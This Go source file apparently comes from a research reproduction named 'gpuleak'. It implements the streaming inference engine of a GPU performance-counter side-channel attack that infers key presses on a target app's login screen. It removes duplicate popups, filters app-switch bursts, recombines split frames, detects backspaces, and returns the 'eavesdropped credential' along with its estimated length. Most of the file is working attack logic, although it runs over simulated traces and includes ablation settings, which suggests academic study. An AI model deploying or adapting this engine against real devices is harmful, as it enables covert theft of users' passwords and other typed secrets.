package attack

import (
	"math"

	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/trace"
)

// InferredKey is one eavesdropped key press.
type InferredKey struct {
	At sim.Time
	R  rune
	// Alt is the runner-up classification and Margin the distance gap to
	// it; low-margin keys are the first candidates for the §7.1
	// guess-correction strategy.
	Alt    rune
	Margin float64
}

// Algorithm 1's fixed parameters. The paper sets them once for every
// device and app; only its ablations vary Ti or turn a step off, which
// OnlineOptions covers.
const (
	// dedupWindow is Ti of §5.1: a PC change within Ti of an inferred key
	// press cannot be another key press. Paper value: 75 ms.
	dedupWindow = 75 * sim.Millisecond
	// burstGap and burstLen define an app switch (§5.2, Figure 13): a run
	// of burstLen large deltas, each within burstGap of the previous one.
	burstGap = 50 * sim.Millisecond
	burstLen = 5
)

// windows are the online phase's time bounds that scale with the
// polling interval.
type windows struct {
	// split bounds how far apart two fragments of a split delta can be
	// and still be combined: 2.5 intervals + 1 ms.
	split sim.Time
	// gapTolerance flags a delta whose sampling gap exceeds it (late or
	// singly-dropped ticks): pending split fragments are discarded
	// because the delta may aggregate unrelated events, but
	// classification still runs. 1.5 intervals + 1 ms, which no
	// fault-free trace exceeds. Fusion aligns the two channels'
	// detections of one press within the same bound.
	gapTolerance sim.Time
	// resync abandons inference across a gap this long entirely
	// (abandon-and-resync): the aggregated delta is untrustworthy, so
	// the engine clears its short-term state and waits for fresh
	// evidence. 4 intervals.
	resync sim.Time
	// evidence bounds how far from a secondary detection fusion searches
	// the primary's unattributed deltas. A press lost to a tick-drop
	// burst surfaces as a merged delta at the first read AFTER the
	// burst, so this reaches one interval + 1 ms past resync.
	evidence sim.Time
	// idle is the launch monitor's low-duty polling period: 4 intervals.
	idle sim.Time
}

// windowsFor derives the time bounds for a polling interval
// (DefaultInterval when interval <= 0).
func windowsFor(interval sim.Time) windows {
	if interval <= 0 {
		interval = DefaultInterval
	}
	return windows{
		split:        interval*5/2 + sim.Millisecond,
		gapTolerance: interval*3/2 + sim.Millisecond,
		resync:       4 * interval,
		evidence:     5*interval + sim.Millisecond,
		idle:         4 * interval,
	}
}

// OnlineOptions holds the §5 online engine's ablation settings. The zero
// value is the paper's engine.
type OnlineOptions struct {
	// DedupWindow overrides Ti of §5.1 (default 75 ms).
	DedupWindow sim.Time

	// Ablation switches.
	DisableDedup        bool
	DisableSplitCombine bool
	DisableCorrections  bool
}

func (o OnlineOptions) withDefaults() OnlineOptions {
	if o.DedupWindow == 0 {
		o.DedupWindow = dedupWindow
	}
	return o
}

// EngineStats counts what the engine did, for the §5.1 system-factor
// experiments.
type EngineStats struct {
	Deltas      int
	Keys        int
	Duplicates  int
	Splits      int // fragmented key presses recombined
	Noise       int // deltas matching learned non-key signatures
	NoiseSplits int // fragmented non-key events recombined
	Recombined  int // pending fragments resolved by any combination
	Unknown     int // deltas that entered the pending buffer
	Corrections int
	Switches    int
	Gaps        int // deltas flagged for a tolerable sampling gap
	Resyncs     int // deltas abandoned across an intolerable sampling gap
}

// Residual returns the changes that stayed unexplained after split
// recombination — the §5.1 "system noise" count.
func (s EngineStats) Residual() int {
	r := s.Unknown - s.Recombined
	if r < 0 {
		r = 0
	}
	return r
}

// Engine is the streaming online-phase inference engine. Feed it deltas
// in time order with Process; read the eavesdropped credential with Text.
type Engine struct {
	model    *Model
	opts     OnlineOptions
	win      windows
	stats    EngineStats
	obs      *obs.Tracer
	classify func(at sim.Time, v trace.Vec) Verdict

	keys      []InferredKey
	lastKeyAt sim.Time
	haveKey   bool

	pending      *trace.Delta
	pendingLast  sim.Time
	pendingChain int
	suppressed   bool
	runLen       int
	runStartAt   sim.Time
	lastBigAt    sim.Time
	haveBig      bool
	bigPx        float64

	echoPrims     float64
	haveEchoPrims bool
	lastEchoAt    sim.Time
}

// NewEngine builds an engine for one classification model. interval is
// the sampler's polling period (used to bound split combining).
func NewEngine(m *Model, interval sim.Time, opts OnlineOptions) *Engine {
	maxPx := 0.0
	for _, c := range m.Keys {
		if c[3] > maxPx {
			maxPx = c[3]
		}
	}
	e := &Engine{
		model: m,
		opts:  opts.withDefaults(),
		win:   windowsFor(interval),
		bigPx: 1.25 * maxPx,
	}
	e.classify = func(_ sim.Time, v trace.Vec) Verdict { return m.ClassifyDenoised(v) }
	return e
}

// SetClassify overrides how the engine classifies deltas. fn must be
// semantically identical to the model's ClassifyDenoised for every input
// — the serving layer uses this hook to route classification through a
// cross-request micro-batcher, which amortizes dispatch without changing
// a single verdict. at is the sim-time of the delta being classified
// (the batcher's coalescing window keys off it); the verdict itself must
// depend only on v.
func (e *Engine) SetClassify(fn func(at sim.Time, v trace.Vec) Verdict) {
	if fn != nil {
		e.classify = fn
	}
}

// ProcessAll feeds a whole delta sequence through the engine.
func (e *Engine) ProcessAll(ds []trace.Delta) {
	for _, d := range ds {
		e.Process(d)
	}
}

// Process consumes one PC value change (Algorithm 1 plus the §5.2/§5.3
// extensions).
func (e *Engine) Process(d trace.Delta) {
	e.stats.Deltas++

	// --- Gap-aware segmentation ----------------------------------------
	// A delta spanning more than one polling interval means the sampler
	// lost ticks to faults; the change is the sum of everything that
	// happened in the gap. Across an intolerable gap the aggregate is
	// untrustworthy: abandon it and resync — clear split fragments and the
	// burst run, keep already-inferred keys. A merely tolerable gap still
	// invalidates pending fragments (the halves may not belong together)
	// but the delta itself is classified normally. Fault-free traces have
	// Gap == interval, so neither branch ever fires on them.
	if d.Gap > 0 {
		if d.Gap >= e.win.resync {
			e.stats.Resyncs++
			e.pending = nil
			e.runLen = 0
			e.haveBig = false
			e.emitVerdict(d, Verdict{}, "gap_resync")
			return
		}
		if d.Gap > e.win.gapTolerance {
			e.stats.Gaps++
			e.pending = nil
		}
	}

	v := e.classify(d.At, d.V)

	// --- §5.2 app-switch detection ------------------------------------
	// App switches redraw the full screen in a dense animation burst:
	// runs of large, unclassifiable deltas spaced under 50 ms — far
	// denser than human typing and far larger than any popup (Figure 13).
	// Suppression ends when a delta again matches a signature learned on
	// the target application's login screen: the user is back.
	if e.suppressed {
		if v.IsKey || v.IsNoise {
			// Back in the target application (§5.2's end-of-switch
			// burst has passed and a known signature reappeared).
			e.suppressed = false
			e.stats.Switches++
			e.runLen = 0
			e.haveBig = false
			if e.obs != nil {
				e.obs.Emit(d.At, evAppSwitch, obs.Str("phase", "resume"))
			}
			// Fall through: this delta belongs to the target app.
		} else {
			e.emitVerdict(d, v, "suppressed")
			return
		}
	} else if !v.IsKey && !v.IsNoise && d.V[3] >= e.bigPx {
		if e.haveBig && d.At-e.lastBigAt < burstGap {
			e.runLen++
		} else {
			e.runLen = 1
			e.runStartAt = d.At
		}
		e.lastBigAt = d.At
		e.haveBig = true
		if e.runLen >= burstLen {
			e.suppressed = true
			e.stats.Switches++
			e.pending = nil
			// Retract keys mistakenly inferred since the burst began —
			// they were switch-animation frames, not typing.
			cutoff := e.runStartAt - sim.Millisecond
			retracted := 0
			for len(e.keys) > 0 && e.keys[len(e.keys)-1].At >= cutoff {
				e.keys = e.keys[:len(e.keys)-1]
				e.stats.Keys--
				retracted++
			}
			if e.obs != nil {
				e.obs.Emit(d.At, evAppSwitch,
					obs.Str("phase", "burst"), obs.Int("retracted", retracted))
			}
			e.emitVerdict(d, v, "switch_burst")
			return
		}
	} else if v.IsKey || v.IsNoise {
		e.runLen = 0
		e.haveBig = false
	}

	// --- §5.1 duplication suppression ----------------------------------
	// A human cannot press two keys within Ti; a key-like delta right
	// after an inferred press is the popup animation re-drawing.
	if !e.opts.DisableDedup && e.haveKey && d.At-e.lastKeyAt < e.opts.DedupWindow {
		if v.IsKey {
			e.stats.Duplicates++
			e.emitVerdict(d, v, "duplicate")
			return
		}
	}

	// --- Algorithm 1: classify, else try split combining ---------------
	switch {
	case v.IsKey:
		e.inferKeyV(d.At, v)
		e.pending = nil
		e.emitVerdict(d, v, "key")
	case v.IsNoise:
		e.stats.Noise++
		e.handleNoise(d, v)
		e.pending = nil
		e.emitVerdict(d, v, "noise")
	default:
		if !e.opts.DisableSplitCombine && e.pending != nil &&
			d.At-e.pendingLast <= e.win.split && e.pendingChain < 8 {
			combined := e.pending.V.Add(d.V)
			cv := e.classify(e.pending.At, combined)
			if cv.IsKey || cv.IsNoise {
				e.stats.Recombined++
			}
			if cv.IsKey {
				// The change was split across multiple reads; the key press
				// belongs at the earliest fragment's timestamp.
				if !(e.haveKey && e.pending.At-e.lastKeyAt < e.opts.DedupWindow) || e.opts.DisableDedup {
					e.stats.Splits++
					e.inferKeyV(e.pending.At, cv)
					e.emitVerdict(d, cv, "split_key")
				} else {
					e.stats.Duplicates++
					e.emitVerdict(d, cv, "duplicate")
				}
				e.pending = nil
				return
			}
			if cv.IsNoise {
				// A split non-key frame (popup dismissal, echo, launch)
				// reassembled: consume it as noise.
				e.stats.Noise++
				e.stats.NoiseSplits++
				e.handleNoise(trace.Delta{At: e.pending.At, V: combined}, cv)
				e.pending = nil
				e.emitVerdict(d, cv, "split_noise")
				return
			}
			// Keep accumulating: frames stretched by GPU contention can
			// fragment across more than two reads. Chain growth is
			// bookkeeping, not a new unexplained event.
			e.pending = &trace.Delta{At: e.pending.At, V: combined}
			e.pendingLast = d.At
			e.pendingChain++
			e.emitVerdict(d, cv, "accumulate")
			return
		}
		e.stats.Unknown++
		cp := d
		e.pending = &cp
		e.pendingLast = d.At
		e.pendingChain = 0
		e.emitVerdict(d, v, "pending")
	}
}

func (e *Engine) inferKeyV(at sim.Time, v Verdict) {
	e.keys = append(e.keys, InferredKey{At: at, R: v.R, Alt: v.Alt, Margin: v.AltDist - v.Dist})
	e.lastKeyAt = at
	e.haveKey = true
	e.stats.Keys++
}

// handleNoise implements §5.3 input-correction detection. The echo redraw
// carries the input length in the LRZ visible-primitive counter (+2 per
// character, −2 per deletion — Figure 14), and a backspace produces an
// echo redraw with no preceding key press popup. Both signals agree on a
// deletion: we retract the last inferred character when an echo update
// arrives without a recent key press, corroborated by a −2 primitive step
// when the echo delta was observed unfragmented.
func (e *Engine) handleNoise(d trace.Delta, v Verdict) {
	if v.Noise != NoiseEcho || e.opts.DisableCorrections {
		return
	}
	// An echo belonging to a key press follows its popup within the press
	// duration (a few hundred ms). A lone echo is a deletion.
	lone := !e.haveKey || d.At-e.lastKeyAt > 320*sim.Millisecond
	prims := d.V[0] // PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ is index 0
	minusTwo := e.haveEchoPrims && math.Abs(prims-e.echoPrims+2) < 0.5
	if lone && minusTwo {
		retracted := ""
		if len(e.keys) > 0 {
			retracted = string(e.keys[len(e.keys)-1].R)
			e.keys = e.keys[:len(e.keys)-1]
			e.stats.Keys--
		}
		e.stats.Corrections++
		if e.obs != nil {
			e.obs.Emit(d.At, evCorrection, obs.Str("retracted", retracted))
		}
	}
	e.echoPrims = prims
	e.haveEchoPrims = true
	e.lastEchoAt = d.At
}

// Keys returns the inferred key presses so far (corrections applied).
func (e *Engine) Keys() []InferredKey { return e.keys }

// Text returns the eavesdropped credential.
func (e *Engine) Text() string {
	rs := make([]rune, len(e.keys))
	for i, k := range e.keys {
		rs[i] = k.R
	}
	return string(rs)
}

// Stats returns the engine's bookkeeping counters.
func (e *Engine) Stats() EngineStats { return e.stats }

// Suppressed reports whether the engine currently believes the user is in
// a foreign application.
func (e *Engine) Suppressed() bool { return e.suppressed }

// EstimatedLength recovers the current input length from the last echo
// redraw's primitive count (§5.3: the field redraw carries base + 2n
// triangles). This is the residual leak the paper highlights when popups
// are disabled (§9.1): the attacker still learns how long the credential
// is. Returns -1 when no echo has been observed.
func (e *Engine) EstimatedLength() int {
	if !e.haveEchoPrims {
		return -1
	}
	n := int(e.echoPrims-2) / 2
	if n < 0 {
		n = 0
	}
	return n
}
